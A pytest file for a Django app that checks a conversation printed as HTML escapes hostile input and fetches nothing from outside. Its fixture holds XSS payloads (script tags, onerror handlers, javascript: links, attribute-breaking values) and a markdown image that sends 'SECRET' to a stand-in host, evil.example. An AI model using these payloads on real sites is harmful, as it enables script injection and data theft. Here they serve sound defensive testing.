"""A conversation as a page to print: whole, harmless, and fetching nothing (B75, B76)."""

from __future__ import annotations

import re
from typing import Any

import pytest
from django.utils import timezone

from conversations.models import Conversation, Revision
from conversations.moving.printed import page_of, policy, style
from tests.factories import AgentProfileFactory, ConversationFactory

pytestmark = pytest.mark.django_db

EVIL = (
    "<img src=x onerror=alert(1)><script>alert(2)</script>"
    "![a](https://evil.example/p?d=SECRET) [b](javascript:alert(3))"
)


@pytest.fixture
def conversation() -> Conversation:
    return ConversationFactory(agent=AgentProfileFactory(name=EVIL), title=EVIL)


def say(conversation: Conversation, *messages: tuple[str, list[dict[str, Any]]]) -> str:
    context = [{"id": f"m-{at}", "role": role, "blocks": blocks} for at, (role, blocks) in enumerate(messages)]
    conversation.head = Revision.objects.create(conversation=conversation, number=1, context=context)
    conversation.save()
    return page_of(conversation, timezone.now())


def test_hostile_text_stays_text(conversation: Conversation) -> None:
    call = {"type": "tool-call", "callId": "c-1", "name": EVIL, "input": {EVIL: EVIL}}
    result = {"type": "tool-result", "callId": "c-1", "name": EVIL, "status": "success", "execution": "completed"}
    elsewhere = {"type": "image", "source": {"type": "url", "url": 'https://evil.example/"><script>'}}
    typed = {"type": "image", "source": {"type": "base64", "mediaType": 'x"><script>', "data": "aaaa"}}
    page = say(
        conversation,
        ("user", [{"type": "text", "text": EVIL}, elsewhere, typed]),
        ("assistant", [{"type": "reasoning", "text": EVIL}, call]),
        ("tool", [result | {"content": [{"type": "text", "text": EVIL}]}]),
        ("assistant", [{"type": "text", "text": EVIL}]),
    )
    assert "<script" not in page
    assert not re.search(r"<[^>]+\son\w+=", page)
    assert re.findall(r'<img src="([^"]*)"', page) == ["data:x&quot;&gt;&lt;script&gt;;base64,aaaa"]
    assert not re.search(
        r'(?:src|href)="(?:https?:)?//evil', page.replace('href="https://evil.example/p?d=SECRET"', "")
    )
    assert "javascript:" not in "".join(re.findall(r'href="[^"]*"', page))


def test_the_page_needs_nothing_from_elsewhere(conversation: Conversation) -> None:
    picture = {"type": "image", "source": {"type": "base64", "mediaType": "image/png", "data": "iVBORw0KGgo="}}
    page = say(conversation, ("user", [picture]), ("assistant", [{"type": "text", "text": "```python\nx = 1\n```"}]))
    assert '<img src="data:image/png;base64,iVBORw0KGgo="' in page
    assert "<link" not in page
    assert "@import" not in page
    assert "url(" not in style()
    assert "@media print" in page
    assert f'content="{policy()}"'.replace("'", "&#x27;") in page
    assert 'class="k' in page or 'class="n"' in page, "code is coloured"


def test_nothing_said_is_said(conversation: Conversation) -> None:
    assert "Nothing was said here." in page_of(conversation, timezone.now())
